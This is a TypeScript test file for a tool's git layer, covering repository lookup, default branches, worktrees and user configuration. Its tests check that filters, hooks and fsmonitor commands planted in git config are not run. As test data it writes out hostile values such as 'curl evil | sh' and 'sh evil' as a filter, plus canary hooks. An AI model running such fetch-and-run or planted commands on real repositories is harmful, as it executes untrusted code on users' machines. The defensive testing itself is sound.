import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it, vi } from 'vitest';
import { logExec } from '../../../src/platform/exec.ts';
import { inWorktree, linkedAt } from '../../../src/platform/git/admin.ts';
import { defaultTarget, findRepo, operationInProgress, userFilters } from '../../../src/platform/git/repository.ts';
import { git } from '../../../src/platform/git/run.ts';
import { interpret, userConfig } from '../../../src/platform/git/user.ts';
import { worktrees } from '../../../src/platform/git/worktrees.ts';
import { gitRepo, type TestRepo } from './repo.ts';

function emptyFolder(): Disposable & { path: string } {
  const path = realpathSync(mkdtempSync(join(tmpdir(), 'furrow-none-')));
  return { path, [Symbol.dispose]: () => rmSync(path, { recursive: true, force: true }) };
}

describe('a repository', () => {
  it('is found from a folder in it and from its worktrees', async () => {
    await using repo = await gitRepo();
    repo.sh(['worktree', 'add', '-q', '-b', 'x', '.furrow/w']);
    for (const from of [repo.root, join(repo.root, 'src'), join(repo.root, '.furrow/w'), join(repo.root, '.furrow/w/src')]) {
      expect(await findRepo(from)).toEqual({ root: repo.root, gitDir: join(repo.root, '.git') });
    }
  });

  it.each([
    ['no repository', 'NOT_A_REPOSITORY', () => {}],
    ['a bare one', 'BARE_REPOSITORY', (path: string) => execFileSync('git', ['init', '-q', '--bare', path])],
    ['one without commits', 'NO_COMMITS', (path: string) => execFileSync('git', ['init', '-q', path])],
    ['no folder', 'NO_SUCH_FOLDER', (path: string) => rmSync(path, { recursive: true })],
  ])('%s is told as such', async (_what, code, make) => {
    using folder = emptyFolder();
    make(folder.path);
    await expect(findRepo(folder.path)).rejects.toMatchObject({ code });
  });

  it('lands on the remote’s default branch, else main, else master, else the branch that is checked out', async () => {
    await using repo = await gitRepo();
    repo.sh(['checkout', '-q', '-b', 'trunk']);
    expect(await defaultTarget(repo)).toMatchObject({ branch: 'main' });
    repo.sh(['update-ref', 'refs/remotes/origin/elsewhere', 'HEAD']);
    repo.sh(['symbolic-ref', 'refs/remotes/origin/HEAD', 'refs/remotes/origin/elsewhere']);
    expect(await defaultTarget(repo), 'a branch that is not here').toMatchObject({ branch: 'main' });
    repo.sh(['update-ref', 'refs/remotes/origin/trunk', 'HEAD']);
    repo.sh(['symbolic-ref', 'refs/remotes/origin/HEAD', 'refs/remotes/origin/trunk']);
    expect(await defaultTarget(repo)).toMatchObject({ branch: 'trunk' });
    repo.sh(['symbolic-ref', '--delete', 'refs/remotes/origin/HEAD']);
    repo.sh(['branch', '-q', '--move', 'main', 'master']);
    expect(await defaultTarget(repo)).toMatchObject({ branch: 'master' });
    repo.sh(['branch', '-q', '-D', 'master']);
    expect(await defaultTarget(repo)).toMatchObject({ branch: 'trunk' });
    repo.sh(['checkout', '-q', '--detach']);
    repo.sh(['branch', '-q', '-D', 'trunk']);
    await expect(defaultTarget(repo)).rejects.toMatchObject({ code: 'DETACHED_HEAD' });
  });

  it('lists its worktrees with branch and lock', async () => {
    await using repo = await gitRepo();
    repo.sh(['worktree', 'add', '-q', '-b', 'x', '.furrow/w']);
    repo.sh(['worktree', 'add', '-q', '--detach', '--lock', '--reason', 'mine now', '.furrow/a b']);
    expect(await worktrees(repo)).toEqual([
      { path: repo.root, branch: 'refs/heads/main', locked: null, prunable: false },
      { path: join(repo.root, '.furrow/a b'), branch: null, locked: 'mine now', prunable: false },
      { path: join(repo.root, '.furrow/w'), branch: 'refs/heads/x', locked: null, prunable: false },
    ]);
  });

  it('has the branch checked out that a symbolic ref leads to, as git says it', async () => {
    await using repo = await gitRepo();
    repo.sh(['symbolic-ref', 'refs/heads/alias', 'refs/heads/main']);
    repo.sh(['symbolic-ref', 'refs/heads/twice', 'refs/heads/alias']);
    repo.sh(['switch', '-q', 'twice']);
    expect(repo.sh(['worktree', 'list', '--porcelain'])).toContain('branch refs/heads/main');
    expect(await worktrees(repo)).toMatchObject([{ branch: 'refs/heads/main' }]);
    repo.sh(['symbolic-ref', 'refs/heads/alias', 'refs/heads/twice']);
    expect(await worktrees(repo), 'a circle leads nowhere').toHaveLength(1);
  });

  it('tells a merge under way, and the commands its configuration would run', async () => {
    await using repo = await gitRepo();
    expect(operationInProgress(repo.gitDir)).toBeUndefined();
    writeFileSync(join(repo.gitDir, 'MERGE_HEAD'), repo.sh(['rev-parse', 'HEAD']));
    expect(operationInProgress(repo.gitDir)).toBe('merge');
    repo.sh(['config', 'filter.lfs.process', 'git-lfs filter-process']);
    repo.sh(['config', 'filter.notebook.smudge', 'cat']);
    expect(await userFilters(repo)).toEqual([]);
    repo.sh(['config', 'filter.lfs.process', 'curl evil | sh']);
    repo.sh(['config', 'filter.x.process', 'x']);
    expect((await userFilters(repo)).sort()).toEqual(['lfs', 'x']);
  });
});

describe('git as we run it', () => {
  it('ignores what the user’s own git ignores', () => {
    vi.stubEnv('HOME', '/h');
    vi.stubEnv('XDG_CONFIG_HOME', '');
    const place = { root: '/r', gitDir: '/r/.git', door: '/door' };
    const from = (text: string) => {
      const lines = text.split('\n').filter(Boolean);
      return interpret(
        lines.map((line) => ({
          scope: 'person',
          file: '/h/.gitconfig',
          key: line.split(' ')[0]!,
          value: line.slice(line.indexOf(' ') + 1),
        })),
        place,
      );
    };
    expect(from('').flags).toEqual(['core.excludesFile=/h/.config/git/ignore']);
    expect(from('core.excludesfile ~/ig\ncore.autocrlf input\nalias.x !rm').flags).toEqual([
      'core.excludesFile=/h/ig',
      'core.autocrlf=input',
    ]);
    expect(from('user.name Ada\nuser.email a@b').identity).toEqual({ name: 'Ada', email: 'a@b' });
    expect(from('filter.lfs.clean git-lfs clean -- %f\nfilter.lfs.smudge sh evil').env).toEqual({});
    const own = from('filter.lfs.smudge git-lfs smudge -- %f\nfilter.lfs.process git-lfs filter-process --skip');
    expect(own.filters.get('lfs')?.lfs).toEqual({ skip: true });
    expect(own.env['GIT_CONFIG_VALUE_0']).toMatch(/lfs\/main\.ts' '\/r\/\.git\/lfs' '--skip'$/);
  });

  it('asks for the user’s configuration once; a change of the repository’s own is seen without a process', async () => {
    await using repo = await gitRepo();
    const reads: string[] = [];
    await git(repo, ['rev-parse', 'HEAD']);
    logExec(({ argv }) => argv[1] === 'config' && reads.push(argv.join(' ')));
    await git(repo, ['rev-parse', 'HEAD']);
    expect(reads).toEqual([]);
    repo.sh(['config', 'core.autocrlf', 'input']);
    await git(repo, ['rev-parse', 'HEAD']);
    await git(repo, ['rev-parse', 'HEAD']);
    logExec(() => {});
    expect(reads).toEqual([]);
    expect((await userConfig(repo)).flags).toContain('core.autocrlf=input');
  });

  it.each([
    ['.git/config', (repo: TestRepo, key: string, value: string) => repo.sh(['config', key, value])],
    [
      'the configuration of a worktree',
      (repo: TestRepo, key: string, value: string) => {
        repo.sh(['config', 'extensions.worktreeConfig', 'true']);
        repo.sh(['config', '--worktree', key, value], join(repo.root, '.furrow/w'));
      },
    ],
    [
      'an included file',
      (repo: TestRepo, key: string, value: string) => {
        repo.sh(['config', 'include.path', join(repo.root, 'more')]);
        repo.sh(['config', '--file', join(repo.root, 'more'), key, value]);
      },
    ],
  ])('runs no filter that is planted in %s while it works', async (_name, plant) => {
    await using repo = await gitRepo();
    repo.sh(['worktree', 'add', '-q', '-b', 'w', join(repo.root, '.furrow/w')]);
    const inside = inWorktree(repo, (await linkedAt(repo, join(repo.root, '.furrow/w')))!);
    const canary = join(repo.root, 'CANARY');
    writeFileSync(join(repo.root, '.furrow/w/.gitattributes'), '*.txt filter=x\n*.md filter=y=z\n');
    await git(repo, ['add', '-A'], inside);
    for (const driver of ['x', 'y=z'])
      for (const what of ['clean', 'smudge', 'process']) plant(repo, `filter.${driver}.${what}`, `touch '${canary}'; cat`);
    writeFileSync(join(repo.root, '.furrow/w/src/a.txt'), 'other\n');
    writeFileSync(join(repo.root, '.furrow/w/readme.md'), 'other\n');
    await git(repo, ['add', '-A'], inside);
    await git(repo, ['checkout', '-q', '-f', 'main', '--', '.'], inside);
    await git(repo, ['status', '--porcelain'], inside);
    expect(existsSync(canary)).toBe(false);
  });

  it('runs nothing that the repository’s configuration plants', async () => {
    await using repo = await gitRepo();
    const canary = join(repo.root, 'CANARY');
    mkdirSync(join(repo.gitDir, 'hooks'), { recursive: true });
    writeFileSync(join(repo.gitDir, 'hooks/post-checkout'), `#!/bin/sh\ntouch '${canary}'\n`, { mode: 0o755 });
    repo.sh(['config', 'core.fsmonitor', `touch '${canary}'; false`]);
    await git(repo, ['status', '--porcelain']);
    await git(repo, ['checkout', '-q', '-b', 'other']);
    expect(await git(repo, ['ls-files', '--others', '--exclude-standard'])).toBe('');
  });
});
